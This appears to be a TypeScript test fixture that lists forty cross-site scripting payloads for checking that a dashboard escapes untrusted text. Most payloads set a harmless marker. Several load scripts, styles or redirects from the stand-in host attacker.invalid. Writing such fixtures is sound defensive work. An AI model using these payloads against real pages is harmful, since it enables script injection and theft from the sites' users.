/**
 * Forty texts that run as script if they are shown as anything but text. They are attacks on people who read the
 * dashboard; none does harm on its own. Each would set `window.harmed` or fetch from another host.
 */

const does = 'window.harmed=1';
const elsewhere = 'https://attacker.invalid/x';

export const hostileTexts: readonly string[] = [
  `<script>${does}</script>`,
  `<script src=${elsewhere}></script>`,
  `<img src=x onerror=${does}>`,
  `<img src="${elsewhere}">`,
  `"><img src=x onerror=${does}>`,
  `'><img src=x onerror=${does}>`,
  `<svg onload=${does}>`,
  `<svg><script>${does}</script></svg>`,
  `<svg><animate onbegin=${does} attributeName=x dur=1s>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${does}>`,
  `<iframe srcdoc="<script>parent.harmed=1</script>"></iframe>`,
  `<iframe src="javascript:parent.harmed=1"></iframe>`,
  `<object data="javascript:${does}"></object>`,
  `<embed src="javascript:${does}">`,
  `<a href="javascript:${does}">click</a>`,
  `javascript:${does}`,
  `java\tscript:${does}`,
  `data:text/html,<script>opener.harmed=1</script>`,
  `<body onload=${does}>`,
  `<input autofocus onfocus=${does}>`,
  `<details open ontoggle=${does}>`,
  `<video><source onerror=${does}></video>`,
  `<audio src=x onerror=${does}>`,
  `<marquee onstart=${does}>`,
  `<form action="javascript:${does}"><button>go`,
  `<base href="${elsewhere}">`,
  `<link rel=stylesheet href="${elsewhere}">`,
  `<meta http-equiv=refresh content="0;url=${elsewhere}">`,
  `<style>@import "${elsewhere}";</style>`,
  `<div style="background:url(${elsewhere})">`,
  `{{constructor.constructor('${does}')()}}`,
  `\${${does}}`,
  `<%= ${does} %>`,
  `'-(${does})-'`,
  `</textarea><script>${does}</script>`,
  `</title><script>${does}</script>`,
  `]]><script>${does}</script>`,
  `<!--><script>${does}</script>-->`,
  `\\u003cscript\\u003e${does}\\u003c/script\\u003e`,
  `＜script＞${does}＜/script＞\u{202e}tpircs`,
];
